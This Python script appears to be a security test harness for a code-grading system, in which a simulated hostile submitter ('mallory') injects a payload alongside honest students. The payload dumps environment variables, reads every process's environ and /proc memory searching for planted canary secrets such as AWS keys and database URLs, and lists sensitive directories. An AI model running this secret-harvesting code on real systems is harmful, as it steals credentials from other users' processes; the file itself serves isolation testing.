"""a01: recon from inside the kernel + scan the kernel's own memory (forked from a root template) for canaries."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from common import *
CODE = r'''
import os, re, glob
print("== uid", os.getuid(), os.getgid(), "pid", os.getpid(), "ppid", os.getppid())
print("== env", dict(os.environ))
print("== mountinfo"); print(open("/proc/self/mountinfo").read())
for p in glob.glob("/proc/[0-9]*"):
    try:
        print("== proc", p, open(p+"/cmdline","rb").read().replace(b"\0",b" ")[:200], open(p+"/status").read().split("Uid:")[1].split("\n")[0])
        e = open(p+"/environ","rb").read()
        print("   environ", e[:400])
    except Exception as ex: print("   err", p, ex)
needles = [b"AKIASECRET", b"ta:secret", b"DATABASE_URL", b"AWS_SECRET"]
hits = {}
for p in glob.glob("/proc/[0-9]*"):
  try:
    maps = open(p+"/maps").read().splitlines()
    mem = open(p+"/mem","rb", 0)
  except Exception as ex:
    print("mem open err", p, ex); continue
  n=0
  for line in maps:
    a, perms = line.split()[0], line.split()[1]
    if "r" not in perms: continue
    lo, hi = (int(x,16) for x in a.split("-"))
    if hi-lo > 512<<20: continue
    try:
        mem.seek(lo); data = mem.read(hi-lo)
    except Exception: continue
    n += len(data)
    for nd in needles:
        i = data.find(nd)
        if i >= 0: hits.setdefault(p,[]).append((nd, line, data[max(0,i-80):i+80]))
  print("scanned", p, n)
print("== MEMHITS", hits)
for d in ["/tmp", os.environ.get("JUPYTER_RUNTIME_DIR","/nonexistent"), "/run", "/var", "/home", "/root"]:
    try: print("== ls", d, os.listdir(d))
    except Exception as ex: print("== ls", d, ex)
'''
if __name__ == "__main__":
    c = make_course("a01")
    hand_in(c, "aaron", honest())
    hand_in(c, "mallory", hostile(append={"training_memory": CODE}))
    hand_in(c, "zoe", honest())
    grade(c)
    scores(c)
    leak_scan(c)
    for i, t in outputs_grep(c, "mallory"):
        if i == 3: print(t[:60000])
